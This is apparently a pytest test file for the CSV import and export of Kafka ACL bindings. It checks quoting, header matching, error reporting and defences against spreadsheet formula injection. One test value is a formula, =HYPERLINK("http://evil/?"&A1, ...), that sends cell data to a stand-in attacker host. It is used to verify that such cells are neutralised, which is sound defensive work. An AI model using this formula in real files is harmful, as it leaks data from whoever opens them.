import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.core.kafka.bindings import AclBinding, NewAcl
from app.core.kafka.codes import AclOperation, AclPermissionType, PatternType, ResourceType
from app.formats.lines import MAX_LINE_BYTES
from app.formats.registry import format_named
from tests.acl_sets import acls_of, bindings_of, entries, problems_of, recognised, written

FORMAT = format_named("csv")
HEADER = "Principal,ResourceType,PatternType,ResourceName,Operation,PermissionType,Host"
PLAIN = "User:a,TOPIC,LITERAL,orders,READ,ALLOW,*"


def acl(name: str = "orders", principal: str = "User:a", host: str = "*") -> AclBinding:
    return AclBinding(
        ResourceType.TOPIC, name, PatternType.LITERAL, principal, host, AclOperation.READ, AclPermissionType.ALLOW
    )


def read(*lines: str) -> list[AclBinding]:
    return bindings_of("\n".join(lines).encode(), FORMAT)


def told(*lines: str) -> list[str]:
    return problems_of("\n".join(lines).encode(), FORMAT)


def test_it_is_written_after_rfc_4180() -> None:
    bindings = [acl(), acl(principal='User:CN=a, O="b"'), acl(name=" ", host="a\nb")]
    assert written(FORMAT, bindings).decode() == (
        f"{HEADER}\r\n{PLAIN}\r\n"
        '"User:CN=a, O=""b""",TOPIC,LITERAL,orders,READ,ALLOW,*\r\n'
        'User:a,TOPIC,LITERAL," ",READ,ALLOW,"a\nb"\r\n'
    )


def test_the_headers_of_others_are_known(subtests: pytest.Subtests) -> None:
    for header in [
        HEADER,
        "KafkaPrincipal,ResourceType,PatternType,ResourceName,Operation,PermissionType,Host",
        "Principal,ResourceType, PatternType, ResourceName,Operation,PermissionType,Host",
        "principal,resource_type,pattern_type,resource_name,operation,permission_type,host",
        ",".join(f'"{each}"' for each in HEADER.split(",")),
    ]:
        for end in ["\n", "\r\n"]:
            with subtests.test(header=header, end=end):
                raw = f"{header}{end}{PLAIN}{end}{end}".encode()
                assert recognised(raw) is FORMAT
                assert bindings_of(raw) == [acl()]


def test_columns_may_come_in_any_order_and_the_pattern_type_may_be_missing() -> None:
    raw = "KafkaPrincipal,ResourceType,ResourceName,Operation,PermissionType,Host\nUser:a,Topic,orders,Read,Allow,*"
    assert bindings_of(raw.encode()) == [acl()]
    assert read(
        "Principal,Host,Operation,PermissionType,ResourceName,ResourceType", "User:a,*,READ,ALLOW,orders,TOPIC"
    ) == [acl()]


def test_without_a_header_the_columns_are_the_usual_ones() -> None:
    assert read(PLAIN) == [acl()]


def test_words_are_read_in_the_spelling_of_any_tool() -> None:
    (found,) = read(HEADER, "User:a,TransactionalId,Prefixed,x,Idempotent_Write,deny,*")
    assert found.resource_type is ResourceType.TRANSACTIONAL_ID
    assert found.pattern_type is PatternType.PREFIXED
    assert found.operation is AclOperation.IDEMPOTENT_WRITE
    assert found.permission_type is AclPermissionType.DENY


def test_a_name_with_commas_that_nobody_quoted_is_put_together_around_the_words(subtests: pytest.Subtests) -> None:
    for line, expected in [
        ("User:CN=a,OU=x, O=y,TOPIC,LITERAL,orders,READ,ALLOW,*", acl(principal="User:CN=a,OU=x, O=y")),
        ("User:a,GROUP,LITERAL,x,y,READ,ALLOW,*", acl(name="x,y")._replace(resource_type=ResourceType.GROUP)),
        (
            "User:a,TransactionalId,LITERAL,x,,y,READ,ALLOW,*",
            acl(name="x,,y")._replace(resource_type=ResourceType.TRANSACTIONAL_ID),
        ),
        ('User:CN="Doe, J",TOPIC,LITERAL,orders,READ,ALLOW,*', acl(principal='User:CN="Doe, J"')),
        ("User:CN=a,OU=x,TOPIC,LITERAL,orders,READ,ALLOW,*,", acl(principal="User:CN=a,OU=x")),
    ]:
        with subtests.test(line=line, expected=expected):
            assert read(HEADER, line) == [expected]


def test_a_record_that_can_not_be_read_is_told_by_its_line(subtests: pytest.Subtests) -> None:
    for line, problem in [
        (
            "User:a,TOPIC,LITERAL,x,READ,ALLOW,y,READ,ALLOW,*",
            "10 fields for 7 columns, with two permission types: is a line end missing?",
        ),
        ("User:a,b,TOPIC,LITTERAL,x,READ,ALLOW,*", "8 fields for 7 columns, and their values do not fit"),
        ('"User:a",b,TOPIC,LITERAL,x,READ,ALLOW,*', "8 fields for 7 columns; quote a name that holds a comma"),
        ("User:a,TOPIC,LITERAL,x,READ,ALLOW", "6 fields for 7 columns"),
        ("User:a," + "b," * 200 + "TOPIC,LITERAL,x,READ,ALLOW,*", "207 fields for 7 columns, and their values"),
        ("User:a,TOPIC,LITERAL, x,READ,ALLOW,*", "`ResourceName`: white space at its start or end"),
        ("User:a,TOPIC,LITERAL,x,READ,ALLOW,*\t", "`Host`: white space at its start or end"),
        ("User:a,TOPIC,LITERAL,x,FLY,ALLOW,*", "`Operation`: `FLY` is not a value that Kafka knows"),
        ("User:a,TOPIC,MATCH,x,READ,ALLOW,*", "`PatternType`: `MATCH` is a word of filters"),
        (",TOPIC,LITERAL,x,READ,ALLOW,*", "`Principal`: an empty cell"),
        ("a,TOPIC,LITERAL,x,READ,ALLOW,*", "`Principal`: Could not parse principal from `a`"),
        ('User:a,TOPIC,LITERAL,"x"y,READ,ALLOW,*', 'a `"` within quotes is not doubled'),
        ("User:a,TOPIC,LITERAL,x\ry,READ,ALLOW,*", "a carriage return outside quotes; quote the field"),
        ('User:a,TOPIC,LITERAL," x", READ,ALLOW,*\t', "`Host`: white space at its start or end"),
        ('User:a,TOPIC,LITERAL,"x,READ,ALLOW,*', "the file ends within quotes"),
        ("User:a,TOPIC,LITERAL,\uff52,READ,\uff21LLOW,*", "`PermissionType`"),
    ]:
        with subtests.test(line=line, problem=problem):
            (found,) = told(HEADER, "", line)
            assert found.startswith(f"3: {problem}")


@pytest.mark.parametrize(
    ("header", "problem"),
    [
        (HEADER + ",Colour", "1: `Colour`: there is no such column"),
        (HEADER + ",host", "1: `host`: the column comes more than once"),
        (HEADER.replace(",Host", ""), "1: `Host`: the column is missing"),
    ],
)
def test_a_header_that_can_not_be_meant_is_told_once(header: str, problem: str) -> None:
    (found,) = told(header, PLAIN, PLAIN)
    assert found.startswith(problem)


def test_a_record_over_several_lines_is_known_by_its_first() -> None:
    raw = f'{HEADER}\r\nUser:a,TOPIC,LITERAL,"x\r\ny\n\n""z""",READ,ALLOW,*\r\n{PLAIN.replace("TOPIC", "?")}'
    (problem,) = problems_of(raw.encode())
    assert problem.startswith("6: `ResourceType`")
    raw = raw.rpartition("\r\n")[0]
    assert bindings_of(raw.encode()) == [acl(name='x\r\ny\n\n"z"')]


def test_a_quote_that_is_never_closed_does_not_take_the_memory() -> None:
    raw = f'{HEADER}\n"User:'.encode() + (b"x" * 999 + b"\n") * (MAX_LINE_BYTES // 500)
    assert problems_of(raw)[0] == "2: a field is longer than any field of an ACL can be; is a quote missing?"
    fields = f'"{"x" * 9_999}\n",' * (MAX_LINE_BYTES // 9_999 + 1)
    problem = f"2: the record is longer than {MAX_LINE_BYTES} characters; is a quote missing?"
    assert problems_of(f"{HEADER}\n{fields}".encode())[0] == problem


def test_bytes_that_are_no_text_are_told() -> None:
    assert problems_of(HEADER.encode() + b"\nUser:\xff,TOPIC") == ["2: not UTF-8; encode it as UTF-8"]


# files that spreadsheets and people change


def test_a_header_is_recognised_in_any_order_and_dress(subtests: pytest.Subtests) -> None:
    for raw in [
        "ResourceType,ResourceName,PatternType,Operation,PermissionType,Principal,Host\nTOPIC,orders,LITERAL,READ,ALLOW,User:a,*",
        f"\ufeff\r\n \n{HEADER}\r\n{PLAIN}\r\n",
        'host , "operation",PERMISSION_TYPE,resourceName,resourcetype,kafkaPrincipal\n*,READ,ALLOW,orders,TOPIC,User:a',
        "'Host,'ResourceName,ResourceType,Operation,PermissionType,'Principal\n*,orders,TOPIC,READ,ALLOW,User:a",
        f"{HEADER},,\n{PLAIN},,\n",
        f"{HEADER},,\n{PLAIN}\n",
    ]:  # fmt: skip
        with subtests.test(raw=raw):
            assert recognised(raw.encode()) is FORMAT
            assert bindings_of(raw.encode()) == [acl()]


def test_a_header_that_is_nearly_one_is_recognised_and_refused_once(subtests: pytest.Subtests) -> None:
    for header, problem in [
        (HEADER.replace("Principal", "Principl"), "1: `Principl`: there is no such column; did you mean Principal?"),
        (HEADER.replace("Host", "Hots"), "1: `Hots`: there is no such column; did you mean Host?"),
        (HEADER.replace("PatternType", "Pattern Type"), "1: `Pattern Type`: there is no such column; did you mean Pat"),
        (HEADER.replace(",", ";"), "1: the columns are separated by semicolons; save the file with commas"),
        (HEADER.replace(",", "\t"), "1: the columns are separated by tabs; save the file with commas"),
        ("sep=,", "1: a line for Excel, no header; remove it"),
        ("sep=;", "1: a line for Excel, no header; remove it"),
        (HEADER + PLAIN, "1: `HostUser:a`: a record begins here; is a line end missing?"),
        (HEADER + ",Colour" * 100_000, "1: 100007 columns; an ACL has 9 at most"),
        (f'"{HEADER}"', "1: the whole line is within quotes"),
        ("'" + HEADER, "1: `ResourceName`: a mark (`'`) is missing before it"),
    ]:
        with subtests.test(header=header[:200]):
            raw = f"{header}\n{PLAIN}\n".encode()
            assert recognised(raw) is FORMAT
            found = problems_of(raw)
            assert found[0].startswith(problem)
            assert len(found) == 1 or header.startswith("'")


def test_what_is_no_header_is_not_taken_for_one() -> None:
    for text in [PLAIN, "User:owner,TOPIC,LITERAL,host,READ,ALLOW,host", "Principal,Host,Owner", ""]:
        assert recognised(text.encode()) is not FORMAT
    assert read("User:a,TOPIC,LITERAL,host,READ,ALLOW,owner") == [acl("host", host="owner")]


def test_a_comma_at_the_end_of_a_record_means_nothing_as_its_tools_read_it() -> None:
    """`AclCsv` of kafbat UI drops it in `String.split`, KSM's `allWithHeaders` in `zip`."""
    assert read(HEADER, f"{PLAIN},", f"{PLAIN},,,") == [acl(), acl()]
    assert told(HEADER, PLAIN.replace("*", "")) == ["2: `Host`: an empty cell; write `*` for every host"]
    # A principal at the end of a record may have it.
    (problem,) = told(
        "ResourceType,PatternType,ResourceName,Operation,PermissionType,Host,Principal",
        "TOPIC,LITERAL,orders,READ,DENY,*,User:CN=a,",
    )
    assert problem.startswith("2: 8 fields for 7 columns")


def test_what_may_be_several_acls_is_never_one_of_a_strange_name(subtests: pytest.Subtests) -> None:
    for record, problem in [
        ("User:a,TOPIC,LITERAL,orders,READ,DENY,10.0.0.1,10.0.0.2", "8 fields for 7 columns, and their values do not"),
        ("User:a,TOPIC,LITERAL,orders,READ,WRITE,DENY,*", "8 fields for 7 columns, and their values do not fit"),
        ("User:a,TOPIC,LITERAL,orders,bills,READ,DENY,*", "8 fields for 7 columns, and their values do not fit"),
        ("User:a,User:b,TOPIC,LITERAL,orders,READ,DENY,*", "8 fields for 7 columns, and their values do not fit"),
        ("User:CN=a,TOPIC,TOPIC,LITERAL,orders,READ,DENY,*", "8 fields for 7 columns, and their values do not fit"),
        ("User:a,,TOPIC,LITERAL,orders,READ,DENY,*", "8 fields for 7 columns, and their values do not fit"),
        ("User:a,GROUP,LITERAL,,orders,READ,DENY,*", "8 fields for 7 columns, and their values do not fit"),
        (f"{PLAIN}{PLAIN}", "13 fields for 7 columns, with two permission types: is a line end missing?"),
        (f"{PLAIN},{PLAIN}", "14 fields for 7 columns, with two permission types: is a line end missing?"),
        (PLAIN.replace(",", ";"), "1 field for 7 columns: they are separated by semicolons; save the file with"),
        (PLAIN.replace(",", "\t"), "1 field for 7 columns: they are separated by tabs; save the file with commas"),
        ('User:CN=a, O=b",TOPIC,LITERAL,orders,READ,DENY,*', '`Principal`: a `"` without a second one; quote the'),
        ("User:a,TOPIC,LIT\nERAL,orders,READ,DENY,*", "3 fields for 7 columns: some are missing, or the record goes"),
        ("User:a,TOPIC,LITERAL,\norders,READ,DENY,*", "4 fields for 7 columns: some are missing, or the record goes"),
        ("User:{{ .Values.user }},TOPIC,LITERAL,orders,READ,DENY,*", "`Principal`: a template that was not filled in"),
        ("User:a,GROUP,LITERAL,{% g %},READ,DENY,*", "`ResourceName`: a template that was not filled in"),
        ("User:a,TOPIC,LITERAL,orders,READ,DENY,${HOST}", "`Host`: a template that was not filled in"),
        ("User:a,TOPIC,LITERAL,orders,READ,DENY,10.0.0.0/99", "`Host`: Invalid CIDR notation"),
        (",,,,,,", "a record without any text; remove the line"),
        (HEADER, "a second header; put each list into a file of its own"),
        ("User:a,CLUSTER,LITERAL,orders,READ,DENY,*", "`ResourceName`: The only valid name for the CLUSTER resource"),
    ]:
        with subtests.test(record=record):
            (found,) = told(HEADER, record, PLAIN)
            assert found.startswith(f"2: {problem}")


def test_a_name_beside_a_column_of_any_text_is_not_put_together(subtests: pytest.Subtests) -> None:
    """The comma may be a mistake in the host beside it."""
    for columns, record in [
        ("ResourceType,ResourceName,Operation,PermissionType,Principal,Host", "TOPIC,orders,READ,DENY,User:a,10,0.0.1"),
        ("ResourceType,Operation,ResourceName,Host,PermissionType,Principal", "GROUP,READ,g,10.0,.0.1,DENY,User:a"),
        ("Principal,ResourceName,ResourceType,Operation,PermissionType,Host", "User:a,or,ders,TOPIC,READ,DENY,*"),
        ("ResourceType,ResourceName,Operation,PermissionType,Host,Principal", "TOPIC,orders,READ,DENY,*,User:a,b"),
    ]:
        with subtests.test(columns=columns):
            (problem,) = told(columns, record)
            assert problem.startswith("2: 7 fields for 6 columns, and their values do not fit")
    columns = "Host,ResourceType,ResourceName,Operation,Principal,PermissionType"
    assert read(columns, "*,TOPIC,orders,READ,User:CN=a,O=b,ALLOW") == [acl(principal="User:CN=a,O=b")]


def test_all_mistakes_of_a_record_are_told_with_the_names_of_the_file() -> None:
    raw = "kafka_principal,resource_type,name,operation,permission_type,host".replace("name", "resource_name")
    ((_, problems),) = entries(f"{raw}\nUser:a ,TOPC,orders,REED,DENY,{{{{ h }}}}".encode())
    assert not isinstance(problems, NewAcl)
    assert [each.place for each in problems] == [("kafka_principal",), ("host",), ("resource_type",), ("operation",)]


def test_what_kafka_can_hold_is_written_in_quotes_and_read_back() -> None:
    """createAcls takes any host and any topic but an empty one, commas and templates too."""
    bindings = [
        acl("x,y", host="10.0.0.1,10.0.0.2"), acl("{{ x }}", "User:${y}", "{%z"), acl("a\nUser:b,TOPIC", 'User:"'),
        acl(f"\n{PLAIN}\n", f"User:\n{HEADER}"),
    ]  # fmt: skip
    assert bindings_of(written(FORMAT, bindings)) == bindings


def test_a_comma_too_many_never_takes_an_end_away() -> None:
    columns = f"{HEADER},ExpiresAt,Owner"
    ends = "2026-12-01T18:00:00Z"
    for record in [f"{PLAIN},,{ends},", f"{PLAIN},{ends},,", f"{PLAIN},{ends},,,"]:
        (problem,) = told(columns, record)
        assert problem.startswith("2: 1")
    (found,) = acls_of(f"{columns},,\n{PLAIN},{ends},,,\n".encode())
    assert found.expires_at is not None
    assert found.owner is None


# formulas


HYPERLINK = '=HYPERLINK("http://evil/?"&A1,"orders")'
MARKED_HEADER = "'Principal,ResourceType,PatternType,'ResourceName,Operation,PermissionType,'Host"


def test_what_a_spreadsheet_would_run_is_marked_and_the_header_says_so() -> None:
    bindings = [acl(HYPERLINK), acl("'=x", host="-1"), acl("'tis")]
    assert written(FORMAT, bindings).decode() == (
        f"{MARKED_HEADER}\r\n"
        'User:a,TOPIC,LITERAL,"\'=HYPERLINK(""http://evil/?""&A1,""orders"")",READ,ALLOW,*\r\n'
        "User:a,TOPIC,LITERAL,''=x,READ,ALLOW,'-1\r\n"
        "User:a,TOPIC,LITERAL,'tis,READ,ALLOW,*\r\n"
    )
    assert recognised(written(FORMAT, bindings)) is FORMAT
    assert bindings_of(written(FORMAT, bindings)) == bindings


def test_a_file_without_marks_means_what_it_always_meant() -> None:
    """A name may begin with an apostrophe, and files of before hold formulas as they are."""
    assert read(HEADER, PLAIN.replace("orders", "'=x"), PLAIN.replace("orders", "=x")) == [acl("'=x"), acl("=x")]
    assert read(PLAIN.replace("orders", "'=x")) == [acl("'=x")]
    assert written(FORMAT, [acl("'x"), acl("it's")]).decode().startswith(f"{HEADER}\r\n")


def test_a_mark_that_a_spreadsheet_has_dropped_is_told() -> None:
    (problem,) = told(MARKED_HEADER, PLAIN, PLAIN.replace("orders", "=x"))
    assert problem.startswith("3: `ResourceName`: a mark (`'`) is missing")


def test_words_have_no_marks() -> None:
    problems = told(MARKED_HEADER.replace("Operation", "'Operation"), PLAIN)
    assert problems[0].startswith("1: `'Operation`: there is no such column")


FORMULAS = st.text(st.sampled_from("'=+-@\uff1d;|,\t\r\n \u00a0\"ab"), min_size=1, max_size=8)


@given(st.lists(st.builds(acl, FORMULAS, FORMULAS.map("{}:x".format), FORMULAS), min_size=1, max_size=4))
def test_whatever_looks_like_a_formula_is_read_back(bindings: list[AclBinding]) -> None:
    raw = written(FORMAT, bindings)
    assert bindings_of(raw, FORMAT) == bindings
    for row in csv.reader(io.StringIO(raw.decode(), newline=""), strict=True):
        assert not any(cell.startswith(tuple("=+-@\uff1d\t\r\n")) for cell in row)


def test_a_line_that_looks_like_a_comment_is_no_acl_of_another_principal() -> None:
    header = b"Principal,ResourceType,PatternType,ResourceName,Operation,PermissionType,Host\n"
    (problem,) = problems_of(header + b"#User:a,TOPIC,LITERAL,orders,READ,DENY,*\n", FORMAT)
    assert problem.startswith("2: `Principal`: it looks like a comment, and CSV has none")
    (quoted,) = bindings_of(header + b'"#User:a",TOPIC,LITERAL,orders,READ,DENY,*\n')
    assert quoted.principal == "#User:a"
    assert b'"#User:a"' in written(FORMAT, [quoted])
